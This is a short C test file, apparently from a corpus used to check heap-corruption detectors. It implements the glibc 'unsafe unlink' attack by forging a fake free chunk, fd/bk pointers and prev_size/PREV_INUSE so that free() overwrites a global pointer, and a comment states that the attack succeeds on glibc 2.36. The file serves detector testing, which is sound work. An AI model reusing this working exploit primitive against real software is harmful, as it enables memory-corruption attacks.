/* SPDX-License-Identifier: MIT */
/* unsafe_unlink: a fake free chunk inside chunk0 with fd/bk pointing
 * around the global chunk0_ptr (so fd->bk == bk->fd == fake), chunk1's
 * prev_size and PREV_INUSE forged; free(chunk1) unlinks the fake chunk and
 * chunk0_ptr ends up pointing at itself minus 3 words.
 * EXPECT-FULL: header-corruption,heap-overflow,freelist-corruption
 * EXPECT-FAST: header-corruption,freelist-corruption
 * glibc 2.36: attack succeeds. */
#include "corpus.h"

static size_t *chunk0_ptr;

int main(void)
{
	chunk0_ptr = malloc(0x420);
	size_t *chunk1 = malloc(0x420);
	corpus_sink = malloc(0x18);
	chunk0_ptr[1] = 0x420;			  /* fake size */
	chunk0_ptr[2] = (size_t)(&chunk0_ptr - 3); /* fd: fd->bk == &chunk0_ptr */
	chunk0_ptr[3] = (size_t)(&chunk0_ptr - 2); /* bk: bk->fd == &chunk0_ptr */
	chunk1[-2] = 0x420;			  /* prev_size: back to the fake */
	chunk1[-1] = 0x430;			  /* PREV_INUSE cleared */
	free(chunk1);
	return corpus_result(chunk0_ptr == (size_t *)&chunk0_ptr - 3);
}
